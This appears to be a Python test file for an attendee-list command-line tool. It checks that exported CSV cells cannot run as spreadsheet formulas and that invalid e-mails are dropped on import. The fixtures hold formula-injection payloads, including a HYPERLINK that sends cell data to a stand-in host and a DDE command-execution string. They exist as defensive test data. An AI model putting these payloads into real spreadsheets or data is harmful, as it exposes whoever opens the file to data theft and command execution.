"""What an attendee list carries into and out of a spreadsheet: ``attendees export`` never writes a cell a
spreadsheet would run as a formula, and ``attendees import`` does not keep an e-mail that is not an address."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from redis.asyncio import Redis

from attendees.store import AttendeeStore
from cli.redis_server import RedisServer
from tests.support.processes import cli

#: Names as a hostile registration (or pretix passing one on) writes them: each a formula when a cell starts with it.
FORMULAS = {
    "f1": '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
    "f2": "=cmd|' /C calc'!A0",
    "f3": "+1+2",
    "f4": "-2+3",
    "f5": "@SUM(1+1)",
}


async def test_export_escapes_every_cell_a_spreadsheet_would_run(
    tmp_path: Path, redis: Redis, redis_server: RedisServer, venue: str
) -> None:
    rows = [{"attendee_id": code, "name": name, "company": name} for code, name in FORMULAS.items()]
    rows.append({"attendee_id": "plain", "name": "Ada Lovelace", "company": "Analytical Engines"})
    rows.append({"attendee_id": "f6", "name": "Bob", "company": "@home", "order_code": "-ORD9"})
    path = tmp_path / "list.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    loaded = cli(redis_server, venue, "attendees", "import", str(path))
    assert loaded.returncode == 0, loaded.stdout + loaded.stderr
    # The list itself keeps the names as given: only what goes into a spreadsheet is escaped.
    stored = await AttendeeStore(redis, venue).get("f1")
    assert stored is not None and stored.name == FORMULAS["f1"]
    out = tmp_path / "export.csv"
    exported = cli(redis_server, venue, "attendees", "export", "-o", str(out))
    assert exported.returncode == 0, exported.stderr
    table = {r["code"]: r for r in csv.DictReader(out.open(encoding="utf-8", newline=""))}
    for code, name in FORMULAS.items():
        assert table[code]["name"] == "'" + name
        assert table[code]["company"] == "'" + name
    assert table["plain"]["name"] == "Ada Lovelace" and table["plain"]["company"] == "Analytical Engines"
    assert table["f6"]["company"] == "'@home" and table["f6"]["order_code"] == "'-ORD9"
    # No cell of the file, whatever its column, starts with a character a spreadsheet reads as a formula.
    with out.open(encoding="utf-8", newline="") as fh:
        for line in csv.reader(fh):
            assert not [cell for cell in line if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], line


async def test_an_e_mail_that_is_not_an_address_is_left_out_and_its_row_named(
    tmp_path: Path, redis: Redis, redis_server: RedisServer, venue: str
) -> None:
    path = tmp_path / "list.csv"
    path.write_text(
        "attendee_id,name,email\r\n"
        "t1,Ada Lovelace,ada@example.org\r\n"
        't2,Bob Builder,"=HYPERLINK(""http://evil.example"")"\r\n'
        "t3,Zoë Ó Briain,zoë@müller.example\r\n"
        "t4,Carl Friedrich,not an address\r\n",
        encoding="utf-8",
    )
    loaded = cli(redis_server, venue, "attendees", "import", str(path))
    assert loaded.returncode == 0, loaded.stdout + loaded.stderr
    assert "row 3: warning: email '=HYPERLINK(\"http://evil.example\")' is not an e-mail address" in loaded.stdout
    assert "row 5: warning: email 'not an address' is not an e-mail address: loaded without it" in loaded.stdout
    assert "added 4, updated 0, unchanged 0, cancelled 0, rejected 0, warnings 2" in loaded.stdout
    store = AttendeeStore(redis, venue)
    emails = {code: a.email for code in ("t1", "t2", "t3", "t4") if (a := await store.get(code)) is not None}
    assert emails == {"t1": "ada@example.org", "t2": "", "t3": "zoë@müller.example", "t4": ""}
    as_json = cli(redis_server, venue, "attendees", "import", str(path), "--json")
    summary = json.loads(as_json.stdout)
    assert summary["warnings"] == 2 and [w["row"] for w in summary["warned_rows"]] == [3, 5]
